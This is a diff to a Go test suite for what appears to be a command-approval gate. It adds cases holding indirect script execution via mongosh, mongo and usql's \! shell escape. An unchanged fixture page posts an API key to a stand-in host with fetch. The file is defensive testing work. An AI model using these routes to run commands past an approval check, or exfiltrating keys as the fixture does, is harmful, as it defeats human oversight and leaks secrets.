@@ -98,6 +98,8 @@ func TestFindings10Open(t *testing.T) {
 	page := map[string]string{
 		"proj/x.html": `<html><body><script>fetch("https://192.0.2.1/u",{method:"POST",mode:"no-cors",body:"API_KEY=sk-test-0000"});</script></body></html>` + "\n",
 	}
+	// usqlFile is a SQL file whose \! line runs x.sh (airlock's verb).
+	usqlFile := map[string]string{"proj/x.sh": "#!/bin/sh\n" + approve + "\n", "proj/p.sql": "\\! ./x.sh\n"}
 	cases := []findingCase{
 		// I1: an interpreter's program on its standard input from a file
 		// (a < redirection, a descriptor, exec <): `python3 x.py` is
@@ -150,6 +152,10 @@ func TestFindings10Open(t *testing.T) {
 		{finding: "I1 gdb -batch < e.cmd", setup: progs, cmd: `gdb -batch < e.cmd`, want: held},
 		{finding: "I1 dc < e.cmd", setup: progs, cmd: `dc < e.cmd`, want: held},
 		{finding: "I1 ftp -n < e.cmd", setup: progs, cmd: `ftp -n < e.cmd`, want: held},
+		{finding: "I1 mongosh < x.js (mongosh's scripts are JavaScript with require; warn)", setup: progs, cmd: `mongosh < x.js`, want: held},
+		{finding: "I1 mongosh --file x.js", setup: progs, cmd: `mongosh --file x.js`, want: held},
+		{finding: "I1 mongo x.js", setup: progs, cmd: `mongo x.js`, want: held},
+		{finding: "I1 usql < p.sql (usql's \\! runs a shell command; psql < p.sql is refused)", setup: usqlFile, cmd: `usql < p.sql`, want: held},
 		{finding: "I1 at now < x.sh (a job that runs later)", setup: progs, cmd: `at now + 1 minute < x.sh`, want: held},
 		{finding: "I1 batch < x.sh", setup: progs, cmd: `batch < x.sh`, want: held},
 		{finding: "I1 crontab - < x.sh", setup: progs, cmd: `crontab - < x.sh`, want: held},
